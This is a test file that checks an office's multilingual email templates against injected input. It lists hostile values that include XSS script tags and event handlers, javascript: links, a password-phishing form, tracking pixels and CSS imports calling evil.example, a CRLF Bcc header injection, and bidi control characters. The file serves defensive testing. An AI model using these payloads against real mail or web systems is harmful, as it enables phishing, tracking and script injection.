// Every letter of the office in every language, filled with what attackers write: nothing but our own
// markup is in it, nothing is fetched, and no link leads where its words do not say.
import { join } from "node:path";
import { Parser } from "htmlparser2";
import { describe, expect, test } from "vitest";
import type { Value } from "../src/templates/values.ts";
import { loadTemplates, render } from "../src/templates.ts";
import { sampleCommon, sampleValues } from "./sample-values.ts";

const templates = loadTemplates(join(import.meta.dirname, "../templates"));

/** What people may write anywhere: in a name, a subject, a place, a text, the name of a file. */
const hostile: readonly (readonly [name: string, words: string])[] = [
  ["a script", '<script>alert(1)</script><img src=x onerror="alert(1)">'],
  ["the end of an attribute", `" onmouseover="alert(1)" x="' onclick='alert(1)'`],
  ["the end of the letter", "</td></tr></table></body></html><iframe src=//evil.example></iframe>"],
  ["a comment for Outlook", "<!--[if mso]><object data=//evil.example></object><![endif]--><!--"],
  ["a style", "</style><style>@import url(https://evil.example/x.css);body{display:none}</style>"],
  ["a form", '<form action="https://evil.example"><input name=password><button>OK</button></form>'],
  ["a tracking pixel", "![x](https://evil.example/pixel.gif) <img src='https://evil.example/p'>"],
  ["a link in Markdown", "[PLP Seraing](https://evil.example) <https://evil.example>"],
  ["a link in HTML", '<a href="https://evil.example/login">https://www.police.be</a>'],
  ["a script as a link", "[OUI](javascript:alert(1)) data:text/html;base64,PHNjcmlwdD4="],
  [
    "a button of ours",
    "[Oui]({reply:OUI}) {name} {officeAddress} {leave:STOP} \u00020\u0003\u00021\u0003",
  ],
  ["entities", "&lt;script&gt; &#60;script&#62; &#x3c;b&#x3e; &amp;lt;"],
  ["direction and control", "abc\u202egpj.exe\u2066\u0000\u001b[31m\u0085\u2028\u200f<b>"],
  ["headers", "x\r\nBcc: all@members.example\r\n\r\n<script>alert(1)</script>"],
  ["the end of the text", "\n-- \nPLP Seraing\n\nUrgent ? Appelez le 0900/12.345\n-----\n> "],
];

const attributes: Readonly<Record<string, readonly string[]>> = {
  html: ["lang"],
  head: [],
  meta: ["charset", "name", "content"],
  title: [],
  style: [],
  body: ["class", "style"],
  table: [..."role width cellpadding cellspacing border bgcolor class style".split(" ")],
  tr: [],
  td: ["class", "align", "bgcolor", "style"],
  p: ["dir", "style"],
  br: [],
  a: ["class", "href", "style"],
  strong: [],
  mark: ["style"],
  blockquote: ["class", "style"],
  ul: ["style"],
  ol: ["style"],
  li: ["style"],
};

interface Page {
  readonly strange: string[];
  readonly links: { to: string; words: string }[];
  readonly comments: string[];
  readonly styles: string[];
}

/** The page as a mail program takes it in: what is not of ours, and where its links lead. */
function look(html: string): Page {
  const page: Page = { strange: [], links: [], comments: [], styles: [] };
  const inside: string[] = [];
  const parser = new Parser({
    onopentag: (tag, given) => {
      inside.push(tag);
      if (attributes[tag] === undefined) page.strange.push(tag);
      for (const [name, value] of Object.entries(given)) {
        if (!attributes[tag]?.includes(name)) page.strange.push(`${tag} ${name}`);
        if (name === "style" && /url\(|expression|import|position|[<>]/i.test(value)) {
          page.strange.push(`${tag} style ${value}`);
        }
      }
      if (tag === "a") page.links.push({ to: given.href ?? "", words: "" });
    },
    onclosetag: () => inside.pop(),
    ontext: (text) => {
      const link = page.links.at(-1);
      if (inside.includes("a") && link) link.words += text;
      if (inside.includes("style")) page.styles.push(text);
    },
    oncomment: (text) => page.comments.push(text),
    onprocessinginstruction: (name, text) => {
      if (text.toLowerCase() !== "!doctype html") page.strange.push(name);
    },
  });
  parser.end(html);
  return page;
}

function fill(value: Value | undefined, words: string): Value {
  if (typeof value === "string") return words;
  if (typeof value === "object" && "buttons" in value) {
    return { buttons: value.buttons.map(({ word }) => ({ label: words, word })) };
  }
  return value ?? words;
}

const letters = [...templates.languages].flatMap(([language, { templates: byName }]) =>
  [...byName].map(([template, { names }]) => ({
    path: `${language}/${template}`,
    language,
    template,
    names,
  })),
);

/** A letter with values as usual, and the same with these words in every one of them. */
function renderBoth({ language, template, names }: (typeof letters)[number], words: string) {
  const usual = sampleValues(names, language);
  const filled = Object.fromEntries(
    Object.entries(usual).map(([name, value]) => [name, fill(value, words)]),
  );
  const as = (values: Record<string, Value>) =>
    render(templates, { template, language, values, common: sampleCommon, hasReply: true });
  return { usual: as(usual), filled: as(filled) };
}

describe.each(hostile)("%s", (_, words) => {
  test("adds nothing to any letter, in HTML", () => {
    for (const letter of letters) {
      const { usual, filled } = renderBoth(letter, words);
      const [before, after] = [look(usual.html), look(filled.html)];
      expect(after.strange, letter.path).toEqual([]);
      expect(after.comments, letter.path).toEqual(before.comments);
      expect(after.styles, letter.path).toEqual(before.styles);
      expect(after.links.length, letter.path).toBe(before.links.length);
    }
  });

  test("moves no link", () => {
    for (const letter of letters) {
      for (const { to, words: seen } of look(renderBoth(letter, words).filled.html).links) {
        expect(to, letter.path).toMatch(
          /^(?:mailto:plp\.seraing(?:\+\u0002\d+\u0003)?@gmail\.com|tel:\d)/,
        );
        // Words that name an address or a number name the one that the link leads to.
        const named = /[\w.+-]{1,64}@[\w.-]{1,60}\w/.exec(seen)?.[0];
        if (named !== undefined && !seen.includes("<")) expect(to, letter.path).toContain(named);
      }
    }
  });

  test("stays on one line in a subject, and makes no slot and no signature of its own", () => {
    for (const letter of letters) {
      const { usual, filled } = renderBoth(letter, words);
      expect(filled.subject, letter.path).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028-\u202e]/);
      const slots = (text: string) => text.match(/\u0002\d+\u0003/g) ?? [];
      expect(slots(filled.html).length, letter.path).toBe(slots(usual.html).length);
      expect(slots(filled.text).length, letter.path).toBe(slots(usual.text).length);
      expect(filled.text.split("\n-- \n"), letter.path).toHaveLength(2);
      expect(`${filled.html}${filled.text}`, letter.path).not.toMatch(
        /[\u0000\u0001\u0004-\u0008\u000b-\u001f\u007f-\u009f\u200f\u2028-\u202e\u2066-\u2069]/,
      );
    }
  });
});

test("the judge sees what is not of ours", () => {
  const html = '<p onclick="x()">a</p><img src=x><a href="javascript:x">y</a><!--z--><?php x?>';
  const page = look(html);
  expect(page.strange).toEqual(["p onclick", "img", "img src", "?php"]);
  expect(page.links).toEqual([{ to: "javascript:x", words: "y" }]);
  expect(page.comments).toEqual(["z"]);
});
